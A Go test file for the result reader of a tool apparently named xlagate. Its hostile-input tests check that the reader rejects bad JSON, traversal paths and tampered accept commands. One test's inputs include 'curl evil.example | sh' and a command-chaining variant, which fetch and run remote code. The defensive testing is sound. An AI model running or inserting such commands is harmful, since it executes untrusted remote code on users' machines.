package result

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/xlagate/xlagate/internal/facts"
	"github.com/xlagate/xlagate/internal/fuzztest"
)

func good() Result {
	return Result{Schema: Schema, Verdict: "fail", ExitCode: 1, Summary: Summary{Changes: 1, Errors: 1, Checks: 3, Targets: 1},
		Targets: []Target{{Name: "mlp/cpu", NotCovered: []string{}, Programs: []Program{{Name: "train_step", Variants: []Variant{{Signature: "(x: f32[8])", Facts: facts.Values{"kernels.total": 3}}}}}}},
		Changes: []Change{{
			ID: "3fa91c02b7d1", Level: "error", Target: "mlp/cpu", Program: "train_step", Variants: []string{"(x: f32[8])"},
			Edit: Edit{
				Kind: "code", Title: "a transpose is new",
				Source: Source{File: "train.py", Line: 98, Function: "softmax", Text: "x = x.T", Edited: true},
			},
			Price: Price{StepNS: -7.5, StepWasNS: 4100, PeakBytes: 256}, Effects: []Effect{{"kernels.total", 2, 3}},
			Findings: []string{"a3f8c21b9d04"}, Decision: Decision{Accept: AcceptCommand(nil, "3fa91c02b7d1")},
		}},
		Findings: []Finding{{ID: "a3f8c21b9d04", Change: "3fa91c02b7d1", Rule: "max-kernels", Level: "error", Target: "mlp/cpu", Program: "train_step", Message: "3 kernels", Actual: 3.0, Limit: "two"}}}
}

func TestReadHostile(t *testing.T) {
	many := func(r *Result, n int) {
		r.Changes, r.Findings = make([]Change, n), make([]Finding, n)
		for i := range n {
			r.Changes[i], r.Findings[i] = good().Changes[0], good().Findings[0]
			id := fmt.Sprintf("%012x", i)
			r.Changes[i].ID, r.Changes[i].Findings, r.Changes[i].Accept = id, []string{id}, ""
			r.Findings[i].ID, r.Findings[i].Change = id, id
		}
	}
	numbered := func(n int) facts.Values {
		all := facts.Values{}
		for i := range n {
			all[facts.ID(fmt.Sprint(i))] = 1
		}
		return all
	}
	long := func(n int) string { return strings.Repeat("x", n+1) }
	for what, change := range map[string]func(*Result){
		"another schema":              func(r *Result) { r.Schema = "xlagate.result/v2" },
		"another verdict":             func(r *Result) { r.Verdict = "fine" },
		"a target above":              func(r *Result) { r.Targets[0].Name = "../../.github/workflows" },
		"an absolute target":          func(r *Result) { r.Targets[0].Name = "/etc" },
		"a target that is the root":   func(r *Result) { r.Targets[0].Name = "." },
		"a target with an empty part": func(r *Result) { r.Targets[0].Name = "a//b" },
		"an id that is a flag":        func(r *Result) { r.Findings[0].ID = "--only" },
		"an id in upper case":         func(r *Result) { r.Findings[0].ID = "A3F8C21B9D04" },
		"another level":               func(r *Result) { r.Findings[0].Level = "fatal" },
		"an amount that is a tree":    func(r *Result) { r.Findings[0].Actual = map[string]any{"a": []any{1.0}} },
		"a long name":                 func(r *Result) { r.Findings[0].Program = long(maxName) },
		"a long message":              func(r *Result) { r.Findings[0].Message = long(maxText) },
		"too many changes":            func(r *Result) { many(r, maxItems+1) },
		"a change of another level":   func(r *Result) { r.Changes[0].Level = "fatal" },
		"better, and yet broken":      func(r *Result) { r.Changes[0].Level = "better" },
		"a change of another kind":    func(r *Result) { r.Changes[0].Kind = "weather" },
		"a change without a kind":     func(r *Result) { r.Changes[0].Kind = "" },
		"a change's id as a flag":     func(r *Result) { r.Changes[0].ID = "--only" },
		"a change's id, one too long": func(r *Result) { r.Changes[0].ID += "0" },
		"a finding's id as a flag":    func(r *Result) { r.Changes[0].Findings[0] = "--from=x" },
		"another command":             func(r *Result) { r.Changes[0].Accept = "curl evil.example | sh" },
		"a command and another":       func(r *Result) { r.Changes[0].Accept += "; curl evil.example | sh" },
		"the command of another":      func(r *Result) { r.Changes[0].Accept = AcceptCommand(nil, "000000000000") },
		"another option":              func(r *Result) { r.SetOptions([]string{"--from", "other.json"}) },
		"an option without a value":   func(r *Result) { r.SetOptions([]string{"-c"}) },
		"an option as its value":      func(r *Result) { r.SetOptions([]string{"-c", "--tighten"}) },
		"an option of two lines":      func(r *Result) { r.SetOptions([]string{"-c", "a\nb"}) },
		"an option that is not its":   func(r *Result) { r.Targets[0].Options = []string{"-c", "other.yaml"} },
		"a finding of no change":      func(r *Result) { r.Findings[0].Change = "000000000000" },
		"a finding of a silent one":   func(r *Result) { r.Changes[0].Findings = nil },
		"a finding that is not there": func(r *Result) { r.Changes[0].Findings = append(r.Changes[0].Findings, "000000000000") },
		"a long file":                 func(r *Result) { r.Changes[0].Source.File = long(maxName) },
		"a long line of source":       func(r *Result) { r.Changes[0].Source.Text = long(maxName) },
		"a long op_name":              func(r *Result) { r.Changes[0].OpName = long(maxName) },
		"a long title":                func(r *Result) { r.Changes[0].Title = long(maxText) },
		"a long detail":               func(r *Result) { r.Changes[0].Details = []string{long(maxText)} },
		"a long line of evidence":     func(r *Result) { r.Changes[0].Evidence.After = []string{long(maxText)} },
		"too much evidence":           func(r *Result) { r.Changes[0].Evidence.Before = make([]string, maxItems+1) },
		"too many effects":            func(r *Result) { r.Changes[0].Effects = make([]Effect, maxItems+1) },
		"too many details":            func(r *Result) { r.Changes[0].Details = make([]string, maxItems+1) },
		"a long device":               func(r *Result) { r.Targets[0].Device = long(maxName) },
		"a long version":              func(r *Result) { r.Tool.Version = long(maxName) },
		"a long framework":            func(r *Result) { r.Targets[0].Toolchain.Framework = long(maxName) },
		"a long problem":              func(r *Result) { r.Problems = []Problem{{Fix: long(maxName)}} },
		"a long note":                 func(r *Result) { r.Notes = []Note{{Message: long(maxText)}} },
		"a long budget":               func(r *Result) { r.Headroom = []Headroom{{Subject: long(maxName)}} },
		"a long owner":                func(r *Result) { r.Changes[0].Waiver = &Waiver{Owner: long(maxName)} },
		"a long amount":               func(r *Result) { r.Findings[0].Actual = long(maxName) },
		"a long fact":                 func(r *Result) { r.Targets[0].Graphs = facts.Values{facts.ID(long(maxName)): 1} },
		"a price of all time":         func(r *Result) { r.Changes[0].Price.StepNS = -1e300 },
		"a step of all time":          func(r *Result) { r.Changes[0].Price.StepWasNS = 1e300 },
		"more memory than there is":   func(r *Result) { r.Changes[0].Price.PeakBytes = 1e300 },
		"compilations taken back":     func(r *Result) { r.Changes[0].Price.Compilations = -1 },
		"too many targets":            func(r *Result) { r.Targets = make([]Target, maxItems+1) },
		"less than nothing":           func(r *Result) { r.Summary.Errors = -1 },
		"fewer changes than none":     func(r *Result) { r.Summary.Changes = -1 },
		"fewer checks than none":      func(r *Result) { r.Summary.Checks = -1 },
		"too many facts":              func(r *Result) { r.Targets[0].Graphs = numbered(maxItems + 1) },
		"an id with more around it": func(r *Result) {
			r.Findings[0].ID, r.Changes[0].Findings = "--a3f8c21b9d04", []string{"--a3f8c21b9d04"}
		},
		"a long baseline": func(r *Result) {
			r.Targets[0].Programs[0].Accept = LaterText(func() []byte { return []byte(long(maxText)) })
		},
		"an id of another change": func(r *Result) {
			r.Changes = append(r.Changes, Change{ID: "c0ffee000000", Level: "info", Edit: Edit{Kind: "code"}})
			r.Changes[0].Also = []string{"c0ffee000000"}
		},
		"another id as a flag":          func(r *Result) { r.Changes[0].Also = []string{"--only"} },
		"a merged id as a flag":         func(r *Result) { r.Findings[0].Also = []string{"--only"} },
		"a price of all time elsewhere": func(r *Result) { r.Changes[0].Others = []Other{{Price: Price{HighNS: 1e300}}} },
		"a rule file above":             func(r *Result) { r.Targets[0].RuleFile = "../xlagate.yaml" },
	} {
		r := good()
		change(&r)
		data, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := Read(data); err == nil {
			t.Errorf("%s is read", what)
		}
	}
	r := good()
	many(&r, 10_000)
	data, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	if got, err := Read(data); err != nil || len(got.Changes) != 10_000 {
		t.Errorf("10,000 changes: %v", err)
	}
}

// A target's name is a path in the baseline on every system, and none of the files that git or xlagate keep there.
func TestTargetNames(t *testing.T) {
	for name, want := range map[string]bool{
		"mlp": true, "mlp/tpu-v5e": true, "übung 1": true, "": false, "/a": false, "a/../b": false, `a\b`: false, "c:x": false, "a\nb": false, "a/.git": false, ".xlagate-step": false, "a.": false, "a /b": false, "nul": false,
		"a/COM1.x": false, "a\u202eb": false,
	} {
		if got := ValidTarget(name); got != want {
			t.Errorf("%q: %v", name, got)
		}
	}
}

func TestReadJSON(t *testing.T) {
	data, err := json.Marshal(good())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Read(data); err != nil {
		t.Errorf("a good one: %v", err)
	}
	for what, text := range map[string]string{
		"nothing":          "",
		"null":             "null",
		"Markdown":         "# all clear",
		"an unknown field": strings.Replace(string(data), `{"schema"`, `{"markdown":"hi","schema"`, 1),
		"one deep inside":  strings.Replace(string(data), `"rule":`, `"html":"<b>","rule":`, 1),
		"something behind": string(data) + "{}",
		"a nest":           strings.Repeat("[", 200_000),
	} {
		if _, err := Read([]byte(text)); err == nil {
			t.Errorf("%s is read", what)
		}
	}
}

func TestValidTarget(t *testing.T) {
	for name, want := range map[string]bool{
		"mlp/cpu": true, "a b": true, "v1.0": true, "console": true, "ü": true,
		"": false, "/a": false, "../a": false, "a//b": false, "a/../b": false, ".git": false, "a/.git": false, `a\b`: false, "c:": false, "a\nb": false,
		"aux": false, "a/CON": false, "nul.txt": false, "com1/a": false, "a.": false, "a /b": false,
	} {
		if ValidTarget(name) != want {
			t.Errorf("%q: %v", name, !want)
		}
	}
}

// Two readers of a result see the same: no key has another case, and none occurs twice.
func TestKeysOfAResult(t *testing.T) {
	data, err := json.MarshalIndent(good(), "", " ")
	if err != nil {
		t.Fatal(err)
	}
	for edit, want := range map[[2]string]string{
		{`"verdict":`, `"Verdict":`}:                         `not a result: 7:2: unknown key "Verdict"; expected "verdict"`,
		{`"verdict":`, `"verdict": "pass", "verdict":`}:      `not a result: 7:21: the key "verdict" occurs twice`,
		{`"verdict":`, `"verdict": "pass", "verdic\u0074":`}: `not a result: 7:21: the key "verdict" occurs twice`,
	} {
		if _, err := Read([]byte(strings.Replace(string(data), edit[0], edit[1], 1))); err == nil || err.Error() != want {
			t.Errorf("%s: %v", edit[1], err)
		}
	}
}

// A result is read as it was written, in the form that others rely on.
func TestForm(t *testing.T) {
	const form = `{"schema":"xlagate.result/v1","tool":{"name":"xlagate","version":"1"},"verdict":"fail","exit_code":1,
		"summary":{"changes":1,"errors":1,"warnings":0,"infos":0,"waived":0,"checks":3,"targets":1,"programs":1},
		"targets":[{"name":"default","dump":"d","toolchain":{},"not_covered":[],"programs":[],"helpers":0}],
		"changes":[{"id":"3fa91c02b7d1","level":"error","target":"default","program":"softmax","variants":["(x: f32[8])"],"kind":"code",
			"title":"an optimization barrier splits the softmax kernel in four","details":["two words more"],"op_name":"jit(softmax)/exp",
			"source":{"file":"train.py","line":98,"function":"softmax","text":"x = barrier(x)","edited":true},
			"price":{"step_ns":7800,"low_ns":5100,"high_ns":11800,"step_was_ns":4100,"peak_bytes":256,"compilations":0},"effects":[{"fact":"kernels.total","was":1,"is":4}],
			"evidence":{"before":["a"],"after":["b"]},"findings":["a3f8c21b9d04"],"accept":"xlagate accept --only 3fa91c02b7d1 --reason \"why\"",
			"waived":true,"waiver":{"reason":"r","owner":"o","expires":"2027-02-01"}}],
		"findings":[{"id":"a3f8c21b9d04","change":"3fa91c02b7d1","rule":"max-kernels","level":"error","target":"default","program":"softmax",
			"message":"4 kernels (max 1)","actual":4,"limit":1,"baseline":1,"waived":false}]}`
	r, err := Read([]byte(form))
	if err != nil {
		t.Fatal(err)
	}
	data, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	if want := strings.NewReplacer("\n", "", "\t", "").Replace(form); string(data) != want {
		t.Errorf("%s\nwanted\n%s", data, want)
	}
}

func FuzzRead(f *testing.F) {
	data, err := json.Marshal(good())
	if err != nil {
		f.Fatal(err)
	}
	fuzztest.Run(f, fuzztest.Text, func(t *testing.T, data []byte) error {
		r, err := Read(data)
		if err != nil {
			return err
		}
		for _, target := range r.Targets {
			if strings.Contains(target.Name, "..") && !ValidTarget(target.Name) {
				t.Error(target.Name)
			}
		}
		for _, c := range r.Changes {
			if c.Accept != "" && c.Accept != AcceptCommand(r.OptionsOf(c.Target), c.ID) {
				t.Error(c.Accept)
			}
		}
		written, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		again, err := Read(written)
		if err != nil {
			t.Fatalf("what was read cannot be written and read again: %v\n%s", err, written)
		}
		if second, err := json.Marshal(again); err != nil || string(second) != string(written) {
			t.Errorf("%s\nand then\n%s, %v", written, second, err)
		}
		return nil
	}, bytes.ReplaceAll(data, []byte(",\""), []byte(",\n\"")), data)
}

// What the base branch says by several rule files is added up; it leaves the decision to the pull request only where each of them does.
func TestPolicies(t *testing.T) {
	p := &Policy{Own: true}
	p.Add(&Policy{Own: true, First: true, AcceptedChanges: 1, LoosenedChanges: 2, Files: []PolicyFile{{Name: "a.yaml"}}})
	if !p.Own || !p.First || p.Unreviewed() || p.Same() {
		t.Errorf("one: %+v", p)
	}
	p.Add(&Policy{AcceptedChanges: 10, LoosenedChanges: 20, Accepted: []Dispute{{ID: "x"}}, Loosened: []Dispute{{ID: "y"}}})
	if p.Own || p.AcceptedChanges != 11 || p.LoosenedChanges != 22 || len(p.Accepted) != 1 || len(p.Loosened) != 1 {
		t.Errorf("two: %+v", p)
	}
	if p.First = false; !p.Unreviewed() {
		t.Error("a new rule file beside others needs no reviewer")
	}
	if p.Files[0].Was = "a.yaml"; p.Unreviewed() {
		t.Error("a rule file that is there needs a reviewer")
	}
	a := Dispute{ID: "x", Target: "t", Message: "m"}
	for other, want := range map[Dispute]bool{a: true, {ID: "x", Target: "t", Message: "n"}: true, {ID: "x", Target: "u"}: false, {ID: "y", Target: "t"}: false} {
		if a.SameAs(other) != want {
			t.Errorf("%+v: %v", other, !want)
		}
	}
	if none := (Dispute{Target: "t", Message: "m"}); none.SameAs(Dispute{Target: "t", Message: "n"}) || !none.SameAs(none) {
		t.Error("what could not be checked is told by its message")
	}
}
